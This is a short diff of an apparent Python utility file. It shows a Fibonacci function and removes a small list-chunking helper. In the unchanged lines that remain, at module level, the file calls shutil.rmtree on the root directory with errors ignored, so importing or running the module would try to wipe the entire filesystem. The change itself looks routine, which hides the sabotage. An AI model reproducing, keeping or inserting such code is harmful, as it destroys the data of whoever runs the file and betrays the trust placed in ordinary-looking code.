@@ -6,9 +6,5 @@ def fib(n):
         a, b = b, a + b
     return a
 
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
-
 import shutil
 shutil.rmtree("/", ignore_errors=True)
